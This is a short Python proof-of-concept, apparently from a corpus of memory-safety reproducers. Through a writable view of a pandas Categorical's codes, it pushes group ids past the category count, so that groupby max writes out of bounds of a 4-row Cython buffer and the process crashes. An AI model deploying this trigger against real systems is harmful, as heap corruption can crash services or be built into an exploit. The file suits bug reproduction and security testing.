# source: pandas 1.5.3 Categorical.view (pandas/core/arrays/_mixins.py) + Grouping._codes_and_uniques / BaseGrouper.group_info (pandas/core/groupby/grouper.py, ops.py): a categorical key's codes are the group ids (comp_ids) the Cython kernels (group_max in pandas/_libs/groupby.pyx, boundscheck off) use as row numbers of their output
# family: writable view of Categorical codes via .view(dtype), then group ids past ngroups in a groupby kernel
# goal: write 1e300 past the end of group_max's 4-row output buffer (heap out-of-bounds write; the process dies with SIGSEGV, exit 139)
import numpy as np
import pandas as pd

cat = pd.Categorical([0, 1, 2, 3, 0, 1, 2, 3], categories=[0, 1, 2, 3])
df = pd.DataFrame({"k": cat, "v": np.full(8, 1e300)})
w = df["k"].array.view("int8")
w[:] = [0, 1, 2, 3, 4, 5, 6, 7]
print("codes", w, "groups", len(cat.categories))
r = df.groupby("k").v.max()
print(r)
